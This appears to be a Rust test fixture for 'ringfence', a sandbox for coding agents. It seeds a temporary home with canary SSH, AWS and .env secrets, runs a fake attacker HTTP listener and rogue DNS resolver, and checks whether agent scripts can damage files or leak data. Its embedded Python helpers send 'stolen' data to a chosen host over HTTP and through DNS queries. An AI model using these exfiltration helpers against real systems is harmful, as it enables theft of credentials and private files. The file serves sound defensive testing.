//! A home, a repo in it, a backup beside it, an attacker who listens, and an agent that is a script.

use ringfence_probes::fixture::{folder, own_network};
use ringfence_probes::report::{self, Report};
use std::collections::BTreeMap;
use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tempfile::TempDir;

/// Whether a fence stands.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum Fence {
    None,
    Ringfence,
}

/// The place of one incident.
pub(crate) struct Scene {
    folder: TempDir,
    before: BTreeMap<PathBuf, Vec<u8>>,
    heard: Arc<Mutex<Vec<String>>>,
    /// Whether the attacker can listen.
    pub(crate) networked: bool,
}

const SECRET: &str = "canary-of-the-incident";

/// Sends words to a host, as any program would.
const POST: &str = r#"#!/usr/bin/env python3
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3)
s.sendall(("POST / HTTP/1.1\r\nHost: %s\r\n\r\nstolen %s" % (sys.argv[1], sys.argv[3])).encode())
s.recv(100)
"#;

/// Asks a resolver of the attacker's choice.
const ASK: &str = r#"#!/usr/bin/env python3
import socket, sys
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
q += b"".join(bytes([len(l)]) + l.encode() for l in sys.argv[2].split(".")) + b"\x00\x00\x01\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.sendto(q, (sys.argv[1], 53))
s.recv(512)
"#;

impl Scene {
    /// Call it on a thread of its own: the thread goes to another network.
    pub(crate) fn new(name: &str, script: &str) -> Self {
        let networked = own_network().expect("a network").is_some();
        let folder = folder("ringfence-incident-").expect("a folder");
        let scene = Self { before: BTreeMap::new(), heard: Arc::default(), networked, folder };
        scene.furnish(name, script);
        if networked {
            scene.listen();
        }
        Self { before: scene.canaries(), ..scene }
    }

    fn furnish(&self, name: &str, script: &str) {
        let (home, repo) = (self.home(), self.repo());
        for (path, text) in [
            (home.join(".ssh/id_ed25519"), SECRET),
            (home.join(".aws/credentials"), SECRET),
            (home.join(".bashrc"), "# start-up\n"),
            (home.join("notes.txt"), "notes\n"),
            (home.join("documents/thesis.tex"), "ten years\n"),
            (self.backup().join("monday.tar"), "backup\n"),
            (repo.join("README.md"), "A project.\n"),
            (repo.join(".env"), SECRET),
            (repo.join("ringfence.yaml"), "# the policy that counts lies outside\n"),
            (repo.join(".cursor/mcp.json"), "{}\n"),
            (repo.join(".git/HEAD"), "ref: refs/heads/main\n"),
            (repo.join(".git/config"), "[core]\n\trepositoryformatversion = 0\n"),
            (repo.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n"),
            (repo.join(".git/refs/heads/.keep"), ""),
            (repo.join(".git/objects/.keep"), ""),
            (repo.join("post"), POST),
            (repo.join("ask"), ASK),
            (repo.join("agent.sh"), &format!("# {name}\necho agent started\ncd \"$REPO\"\n{script}\nexit 0\n")),
            (self.folder.path().join("policy/ringfence.yaml"), POLICY),
        ] {
            fs::create_dir_all(path.parent().expect("a parent")).expect("a folder");
            fs::write(path, text).expect("a file");
        }
        for tool in ["post", "ask"] {
            fs::set_permissions(repo.join(tool), fs::Permissions::from_mode(0o755)).expect("a mode");
        }
    }

    fn home(&self) -> PathBuf {
        self.folder.path().join("home")
    }

    fn repo(&self) -> PathBuf {
        self.home().join("project")
    }

    fn backup(&self) -> PathBuf {
        self.folder.path().join("backup")
    }

    /// The attacker: everything that reaches the address of the denied name, or asks the resolver for it.
    fn listen(&self) {
        let tcp = TcpListener::bind("93.184.215.66:80").expect("the attacker's port");
        let heard = Arc::clone(&self.heard);
        std::thread::spawn(move || {
            for mut stream in tcp.incoming().flatten() {
                let mut bytes = [0; 4096];
                let n = stream.read(&mut bytes).unwrap_or(0);
                if let Ok(mut list) = heard.lock() {
                    list.push(String::from_utf8_lossy(bytes.get(..n).unwrap_or_default()).into_owned());
                }
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
            }
        });
        let udp = UdpSocket::bind("93.184.215.53:53").expect("the attacker's resolver");
        let heard = Arc::clone(&self.heard);
        std::thread::spawn(move || {
            let mut bytes = [0; 2048];
            while let Ok((n, from)) = udp.recv_from(&mut bytes) {
                let question = bytes.get(..n).unwrap_or_default();
                if let Ok(mut list) = heard.lock() {
                    list.push(question.escape_ascii().to_string());
                }
                let _ = udp.send_to(&answered(question), from);
            }
        });
    }

    /// Plays the script.
    pub(crate) fn play(&self, fence: Fence) -> Report {
        let mut command = match fence {
            Fence::None => unfenced(),
            Fence::Ringfence => self.ringfence(),
        };
        command.arg(self.repo().join("agent.sh")).env_clear().current_dir(self.repo());
        command.env("PATH", "/usr/local/bin:/usr/bin:/bin").env("HOME", self.home()).env("REPO", self.repo());
        command.env("BACKUP", self.backup()).env("POST", self.repo().join("post")).env("ASK", self.repo().join("ask"));
        report::run(command, Duration::from_secs(60)).expect("the agent runs")
    }

    fn ringfence(&self) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_ringfence"));
        command.args(["run", "--format", "json", "-C"]).arg(self.folder.path().join("policy"));
        command.arg("--repo").arg(self.repo());
        if !self.networked {
            println!("not root: the attacker has no network to listen on");
        }
        command.args(["--", "/bin/sh"]);
        command
    }

    /// Every file that matters.
    fn canaries(&self) -> BTreeMap<PathBuf, Vec<u8>> {
        let mut files = BTreeMap::new();
        let below =
            [".ssh", ".aws", ".bashrc", "notes.txt", "documents", ".claude", ".config"].map(|p| self.home().join(p));
        let repo =
            [".env", ".git/hooks", ".git/config", ".cursor", ".mcp.json", ".claude", "ringfence.yaml", "stolen.txt"];
        for path in below.into_iter().chain(repo.map(|p| self.repo().join(p))).chain([self.backup()]) {
            add(&path, &mut files);
        }
        files
    }

    /// What is no longer as it was.
    pub(crate) fn harm(&self) -> Vec<String> {
        let after = self.canaries();
        let gone = self.before.keys().filter(|p| !after.contains_key(*p)).map(|p| format!("{} is gone", p.display()));
        let changed = after.iter().filter(|(p, now)| self.before.get(*p) != Some(*now));
        let changed = changed.filter(|(p, now)| !(p.ends_with("stolen.txt") && now.is_empty()));
        gone.chain(changed.map(|(p, _)| format!("{} is new or changed", p.display()))).collect()
    }

    /// What the attacker heard.
    pub(crate) fn heard(&self) -> Vec<String> {
        self.heard.lock().map(|list| list.clone()).unwrap_or_default()
    }
}

/// A shell that plays a script only if the home it would harm is one of these scenes.
fn unfenced() -> Command {
    let mut command = Command::new("/bin/sh");
    command.args(["-c", "case \"$HOME\" in */ringfence-incident-*/home) exec /bin/sh \"$1\";; esac; exit 9", "guard"]);
    command
}

const POLICY: &str = "policy: incidents\nlevel: project\nbecause: A coding agent at work in one repo.\nsandbox:\n  \
    network: { mode: allowlist, allowlist: [allowed.example.com] }\n  \
    filesystem: { permission: repo-readwrite, hidden: [\"**/.env\"] }\n  \
    env: { scrub: true, keep: [PATH, HOME, REPO, BACKUP, POST, ASK] }\n";

fn add(path: &Path, files: &mut BTreeMap<PathBuf, Vec<u8>>) {
    let Ok(meta) = fs::symlink_metadata(path) else { return };
    if meta.is_dir() {
        for entry in fs::read_dir(path).into_iter().flatten().flatten() {
            add(&entry.path(), files);
        }
    } else {
        files.insert(path.to_path_buf(), fs::read(path).unwrap_or_default());
    }
}

/// Every name is at the attacker's.
fn answered(question: &[u8]) -> Vec<u8> {
    let end = question.iter().skip(12).position(|b| *b == 0).map_or(question.len(), |n| 12 + n + 5);
    let asked = question.get(12..end).unwrap_or_default();
    let four = asked.ends_with(&[0, 1, 0, 1]);
    let mut reply = question.get(..2).unwrap_or_default().to_vec();
    reply.extend([0x81, 0x80, 0, 1, 0, u8::from(four), 0, 0, 0, 0]);
    reply.extend(asked);
    if four {
        reply.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4, 93, 184, 215, 66]);
    }
    reply
}
